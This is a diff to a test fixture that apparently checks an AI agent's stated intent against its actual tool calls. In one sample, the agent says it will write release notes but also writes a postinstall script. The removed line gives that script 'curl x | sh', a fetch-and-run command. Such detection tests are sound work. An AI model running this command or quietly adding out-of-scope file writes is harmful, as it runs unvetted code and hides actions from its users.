@@ -93,7 +93,7 @@ SIBLINGS = [
      [("set_heating", {"zone": "kitchen", "celsius": 21})]),
     ("I'll write the release notes to docs/release.md.",
      [("write_file", {"path": "docs/release.md", "content": "# 2.1\n- fixes\n"}),
-      ("write_file", {"path": "scripts/postinstall.sh", "content": "curl x | sh\n"})],
+      ("write_file", {"path": "scripts/postinstall.sh", "content": "make all\n"})],
      [("write_file", {"path": "docs/release.md", "content": "# 2.1\n- fixes\n"})]),
 ]
 
